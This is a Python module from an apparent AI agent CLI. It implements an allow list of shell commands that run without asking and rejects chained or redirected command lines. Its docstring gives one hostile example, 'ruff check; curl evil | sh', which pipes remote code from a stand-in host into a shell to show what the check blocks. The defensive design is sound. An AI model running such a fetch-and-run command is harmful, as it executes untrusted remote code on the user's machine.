"""The person's allow list: command lines that run without asking (``allow = ["ruff *", "make lint"]``
in their ``~/.config/cog/config.toml``, ``--allow PATTERN``, ``COG_ALLOW``).

A pattern is words, as the shell splits them; ``*`` as the last word stands for any further words
(none included), and a word may hold shell-style wildcards (``pytest tests/*``). A command matches
only when it is one simple command: a line with anything that chains, substitutes, redirects or
expands (``;``, ``&``, ``|``, a newline, ``$``, a backtick, ``<``, ``>``, parentheses, braces, a
control character) never matches, so ``ruff *`` allows ``ruff check src`` but not
``ruff check; curl evil | sh`` — that one is asked about like any other.

Only the person's own settings and flags make an allow list; a workspace's ``allow`` is not read
(:mod:`cogcli.settings.workspace_file` warns that it is ignored): the workspace is the stranger's.
A tool declares ``allowed`` (``run_command``: the command line against these patterns); the gate's
:class:`~cogcli.gate.pipeline.AllowListStep` asks it.
"""

from __future__ import annotations

import fnmatch
import re
import shlex
from collections.abc import Iterable
from dataclasses import dataclass

#: characters that make a line more than one simple command (or let it run something unseen)
_UNSAFE = re.compile(r"[;&|<>()`$\n\r{}\x00-\x1f\x7f]")


class BadPattern(ValueError):
    """An allow pattern that cannot be used (empty, unbalanced quotes, or holding a shell operator)."""


def _words(text: str) -> list[str] | None:
    try:
        return shlex.split(text, comments=False, posix=True)
    except ValueError:
        return None


@dataclass(frozen=True)
class AllowList:
    """Patterns of calls allowed without asking."""
    patterns: tuple[str, ...] = ()

    @classmethod
    def of(cls, patterns: Iterable[str]) -> AllowList:
        """An allow list from patterns, each checked: a :class:`BadPattern` names the bad one."""
        kept: list[str] = []
        for raw in patterns:
            pattern = raw.strip()
            if not pattern:
                raise BadPattern("an allow pattern is empty; give a command such as 'ruff *' or 'make lint'")
            if _UNSAFE.search(pattern):
                raise BadPattern(
                    f"the allow pattern {pattern!r} holds a shell operator or control character; a pattern is "
                    "one command's words, e.g. 'ruff *' or 'make lint' (chained commands are always asked about)"
                )
            if not _words(pattern):
                raise BadPattern(f"the allow pattern {pattern!r} cannot be split into words (unbalanced quotes?)")
            kept.append(pattern)
        return cls(tuple(dict.fromkeys(kept)))

    def __bool__(self) -> bool:
        return bool(self.patterns)

    def match(self, command: str) -> str | None:
        """The first pattern that allows ``command`` as it is, or None (ask the person)."""
        if not self.patterns or _UNSAFE.search(command):
            return None
        words = _words(command)
        if not words:
            return None
        for pattern in self.patterns:
            if _matches(_words(pattern) or [], words):
                return pattern
        return None


def _matches(pattern: list[str], words: list[str]) -> bool:
    if pattern and pattern[-1] == "*":
        head = pattern[:-1]
        return len(words) >= len(head) and all(fnmatch.fnmatchcase(w, p) for w, p in zip(words, head))
    return len(words) == len(pattern) and all(fnmatch.fnmatchcase(w, p) for w, p in zip(words, pattern))
